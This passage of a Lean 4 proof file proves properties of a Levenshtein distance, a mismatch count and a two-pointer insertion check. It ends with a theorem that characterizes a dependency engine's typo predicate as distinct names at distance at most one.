  induction a, b using lev.induct with
  | case1 ys => cases ys <;> simp [lev]
  | case2 xs hne =>
    cases xs with
    | nil => simp
    | cons x t => simp [lev]
  | case3 xs y ys ih => simp [lev, ih]
  | case4 x xs y ys hxy ih1 ih2 ih3 =>
    have hyx : ¬y = x := fun h => hxy h.symm
    simp only [lev, if_neg hxy, if_neg hyx]
    rw [ih1, ih2, ih3, Nat.min_comm (lev ys (x :: xs)) (lev (y :: ys) xs)]

/-- A string agrees with itself everywhere. -/
theorem countMismatch_self : ∀ a : List Char, countMismatch a a = 0
  | [] => rfl
  | x :: xs => by simp [countMismatch, countMismatch_self xs]

/-- The aligned mismatch count is symmetric. -/
theorem countMismatch_comm : ∀ a b : List Char,
    countMismatch a b = countMismatch b a
  | [], [] => rfl
  | [], _ :: _ => rfl
  | _ :: _, [] => rfl
  | x :: xs, y :: ys => by
    have h := countMismatch_comm xs ys
    by_cases hxy : x = y
    · subst hxy
      simp [countMismatch, h]
    · have hyx : ¬y = x := fun hh => hxy hh.symm
      simp [countMismatch, hxy, hyx, h]

/-- For equal lengths, zero mismatches is equality. -/
theorem countMismatch_zero : ∀ a b : List Char, a.length = b.length →
    (countMismatch a b = 0 ↔ a = b)
  | [], [] => by simp [countMismatch]
  | [], _ :: _ => by intro h; simp at h
  | _ :: _, [] => by intro h; simp at h
  | x :: xs, y :: ys => by
    intro hlen
    simp only [List.length_cons, Nat.add_right_cancel_iff] at hlen
    by_cases hxy : x = y
    · subst hxy
      simp [countMismatch, countMismatch_zero xs ys hlen]
    · simp [countMismatch, hxy]

/-- A shared prefix contributes no mismatches. -/
theorem countMismatch_common : ∀ (p u v : List Char),
    countMismatch (p ++ u) (p ++ v) = countMismatch u v
  | [], _, _ => rfl
  | q :: p', u, v => by simp [countMismatch, countMismatch_common p' u v]

/-- For equal lengths, at most one mismatch means equal or one
    substitution apart. -/
theorem countMismatch_le_one : ∀ a b : List Char, a.length = b.length →
    countMismatch a b ≤ 1 → a = b ∨ IsSubst a b
  | [], [] => fun _ _ => Or.inl rfl
  | [], _ :: _ => by intro h; simp at h
  | _ :: _, [] => by intro h; simp at h
  | x :: xs, y :: ys => by
    intro hlen hc
    simp only [List.length_cons, Nat.add_right_cancel_iff] at hlen
    by_cases hxy : x = y
    · subst hxy
      have hc' : countMismatch xs ys ≤ 1 := by simpa [countMismatch] using hc
      rcases countMismatch_le_one xs ys hlen hc' with h | h
      · exact Or.inl (by rw [h])
      · obtain ⟨p, s, u, v, huv, ha, hb⟩ := h
        exact Or.inr ⟨x :: p, s, u, v, huv, by simp [ha], by simp [hb]⟩
    · have hc0 : countMismatch xs ys = 0 := by
        simp [countMismatch, hxy] at hc
        omega
      have hxs : xs = ys := (countMismatch_zero xs ys hlen).mp hc0
      exact Or.inr ⟨[], ys, x, y, hxy, by simp [hxs], by simp⟩

/-- One substitution leaves at most one mismatch. -/
theorem countMismatch_of_subst (a b : List Char) (h : IsSubst a b) :
    countMismatch a b ≤ 1 := by
  obtain ⟨p, s, x, y, hxy, ha, hb⟩ := h
  subst ha
  subst hb
  rw [countMismatch_common]
  simp [countMismatch, countMismatch_self, hxy]

/-- The two-pointer check accepts a front insertion. -/
theorem skipOneMatch_cons_self : ∀ (s : List Char) (c : Char),
    skipOneMatch s (c :: s) = true
  | [], _ => rfl
  | z :: s', c => by
    by_cases h : z = c
    · subst h
      simpa [skipOneMatch] using skipOneMatch_cons_self s' z
    · simp [skipOneMatch, h]

/-- The two-pointer check accepts any single insertion. -/
theorem skipOneMatch_of_insert : ∀ (p s : List Char) (c : Char),
    skipOneMatch (p ++ s) (p ++ c :: s) = true
  | [], s, c => by simpa using skipOneMatch_cons_self s c
  | q :: p', s, c => by
    simpa [skipOneMatch] using skipOneMatch_of_insert p' s c

/-- What the two-pointer check accepts is exactly a single insertion. -/
theorem skipOneMatch_insert : ∀ a b : List Char,
    skipOneMatch a b = true → IsInsert a b
  | [], ls => by
    intro h
    simp [skipOneMatch] at h
    obtain ⟨c, hc⟩ : ∃ c, ls = [c] := by
      cases ls with
      | nil => simp at h
      | cons c t =>
        cases t with
        | nil => exact ⟨c, rfl⟩
        | cons d t' => simp at h
    exact ⟨[], [], c, by simp, by simp [hc]⟩
  | x :: xs, [] => by
    intro h
    simp [skipOneMatch] at h
  | x :: xs, y :: ys => by
    intro h
    by_cases hxy : x = y
    · subst hxy
      have h' : skipOneMatch xs ys = true := by simpa [skipOneMatch] using h
      obtain ⟨p, s, c, ha, hb⟩ := skipOneMatch_insert xs ys h'
      exact ⟨x :: p, s, c, by simp [ha], by simp [hb]⟩
    · have hys : x :: xs = ys := by
        simpa [skipOneMatch, hxy] using h
      exact ⟨[], x :: xs, y, by simp, by simp [← hys]⟩

/-- A substitution preserves the length. -/
theorem subst_length {a b : List Char} (h : IsSubst a b) :
    a.length = b.length := by
  obtain ⟨p, s, x, y, _, ha, hb⟩ := h
  subst ha
  subst hb
  simp

/-- An insertion grows the length by one. -/
theorem insert_length {a b : List Char} (h : IsInsert a b) :
    b.length = a.length + 1 := by
  obtain ⟨p, s, c, ha, hb⟩ := h
  subst ha
  subst hb
  simp [List.length_append]
  omega

/-- Distance at most one is equality or a single elementary edit. -/
theorem lev_le_one_iff (a b : List Char) :
    lev a b ≤ 1 ↔ a = b ∨ OneEdit a b := by
  constructor
  · induction a, b using lev.induct with
    | case1 ys =>
      cases ys with
      | nil => exact fun _ => Or.inl rfl
      | cons c t =>
        intro h
        rw [lev_nil_left] at h
        simp only [List.length_cons] at h
        have ht : t = [] := List.length_eq_zero.mp (by omega)
        subst ht
        exact Or.inr (Or.inr (Or.inl ⟨[], [], c, by simp, by simp⟩))
    | case2 xs hne =>
      cases xs with
      | nil => exact fun _ => Or.inl rfl
      | cons x t =>
        intro h
        rw [lev_nil_right] at h
        simp only [List.length_cons] at h
        have ht : t = [] := List.length_eq_zero.mp (by omega)
        subst ht
        exact Or.inr (Or.inr (Or.inr ⟨[], [], x, by simp, by simp⟩))
    | case3 xs y ys ih =>
      intro h
      have h' : lev xs ys ≤ 1 := by simpa [lev] using h
      rcases ih h' with h0 | h0
      · exact Or.inl (by rw [h0])
      · rcases h0 with hs | hi | hd
        · obtain ⟨p, s, u, v, huv, ha, hb⟩ := hs
          exact Or.inr (Or.inl ⟨y :: p, s, u, v, huv, by simp [ha], by simp [hb]⟩)
        · obtain ⟨p, s, c, ha, hb⟩ := hi
          exact Or.inr (Or.inr (Or.inl ⟨y :: p, s, c, by simp [ha], by simp [hb]⟩))
        · obtain ⟨p, s, c, ha, hb⟩ := hd
          exact Or.inr (Or.inr (Or.inr ⟨y :: p, s, c, by simp [ha], by simp [hb]⟩))
    | case4 x xs y ys hxy ih1 ih2 ih3 =>
      intro h
      have h' : min (lev xs ys) (min (lev (x :: xs) ys) (lev xs (y :: ys))) = 0 := by
        simp only [lev, if_neg hxy] at h
        omega
      rcases Nat.min_eq_zero_iff.mp h' with h0 | h0
      · have hxs : xs = ys := (lev_eq_zero xs ys).mp h0
        exact Or.inr (Or.inl ⟨[], ys, x, y, hxy, by simp [hxs], by simp⟩)
      · rcases Nat.min_eq_zero_iff.mp h0 with h1 | h1
        · have he : x :: xs = ys := (lev_eq_zero _ _).mp h1
          exact Or.inr (Or.inr (Or.inl ⟨[], x :: xs, y, by simp, by simp [← he]⟩))
        · have he : xs = y :: ys := (lev_eq_zero _ _).mp h1
          exact Or.inr (Or.inr (Or.inr ⟨[], y :: ys, x, by simp, by simp [he]⟩))
  · intro h
    rcases h with rfl | h0
    · rw [lev_self]
      omega
    · rcases h0 with hs | hi | hd
      · obtain ⟨p, s, x, y, _, ha, hb⟩ := hs
        subst ha
        subst hb
        exact lev_subst_le p s x y
      · obtain ⟨p, s, c, ha, hb⟩ := hi
        subst ha
        subst hb
        exact lev_insert_le p s c
      · obtain ⟨p, s, c, ha, hb⟩ := hd
        subst ha
        subst hb
        rw [lev_comm]
        exact lev_insert_le p s c

/-- C9: the typo predicate of the dependency engine (modelled from the
    spec, since only its unit tests are among the repository's files)
    returns true exactly on distinct names at Levenshtein distance at
    most one, and is symmetric. -/
theorem C9_is_typo_characterization :
    ∀ a b : List Char,
      (_is_typo a b = true ↔ a ≠ b ∧ lev a b ≤ 1) ∧
      _is_typo a b = _is_typo b a := by
  intro a b
  refine ⟨⟨?_, ?_⟩, ?_⟩
  · intro h
    unfold _is_typo at h
    by_cases h1 : a.length = b.length
    · rw [if_pos h1] at h
      simp only [Bool.and_eq_true, decide_eq_true_eq] at h
      obtain ⟨hne, hcm⟩ := h
      refine ⟨hne, ?_⟩
      rcases countMismatch_le_one a b h1 hcm with he | hs
      · exact absurd he hne
      · exact (lev_le_one_iff a b).mpr (Or.inr (Or.inl hs))
    · rw [if_neg h1] at h
      by_cases h2 : a.length + 1 = b.length
      · rw [if_pos h2] at h
        have hi := skipOneMatch_insert a b h
        exact ⟨fun he => h1 (by rw [he]),
          (lev_le_one_iff a b).mpr (Or.inr (Or.inr (Or.inl hi)))⟩
      · rw [if_neg h2] at h
        by_cases h3 : b.length + 1 = a.length
        · rw [if_pos h3] at h
          have hi := skipOneMatch_insert b a h
          exact ⟨fun he => h1 (by rw [he]),
            (lev_le_one_iff a b).mpr (Or.inr (Or.inr (Or.inr hi)))⟩
        · rw [if_neg h3] at h
          simp at h
  · intro hh
    obtain ⟨hne, hlev⟩ := hh
    rcases (lev_le_one_iff a b).mp hlev with he | h0
    · exact absurd he hne
    · unfold _is_typo
      rcases h0 with hs | hi | hd
      · have h1 : a.length = b.length := subst_length hs
        rw [if_pos h1]
        simp only [Bool.and_eq_true, decide_eq_true_eq]
        exact ⟨hne, countMismatch_of_subst a b hs⟩
      · have hl : b.length = a.length + 1 := insert_length hi
        have h1 : ¬a.length = b.length := by omega
        have h2 : a.length + 1 = b.length := by omega
        rw [if_neg h1, if_pos h2]
        obtain ⟨p, s, c, ha, hb⟩ := hi
        subst ha
        subst hb
        exact skipOneMatch_of_insert p s c
      · have hl : a.length = b.length + 1 := insert_length hd
        have h1 : ¬a.length = b.length := by omega
        have h2 : ¬a.length + 1 = b.length := by omega
        have h3 : b.length + 1 = a.length := by omega
        rw [if_neg h1, if_neg h2, if_pos h3]
        obtain ⟨p, s, c, ha, hb⟩ := hd
        subst ha
        subst hb
        exact skipOneMatch_of_insert p s c
  · unfold _is_typo
    by_cases h1 : a.length = b.length
    · rw [if_pos h1, if_pos h1.symm, countMismatch_comm]
      congr 1
      exact decide_eq_decide.mpr ne_comm
    · have h1' : ¬b.length = a.length := fun hh => h1 hh.symm
      by_cases h2 : a.length + 1 = b.length
      · have h2' : ¬b.length + 1 = a.length := by omega
        rw [if_neg h1, if_pos h2, if_neg h1', if_neg h2', if_pos h2]
      · by_cases h3 : b.length + 1 = a.length
        · rw [if_neg h1, if_neg h2, if_pos h3, if_neg h1', if_pos h3]
        · rw [if_neg h1, if_neg h2, if_neg h3, if_neg h1', if_neg h3, if_neg h2]

end Veritensor
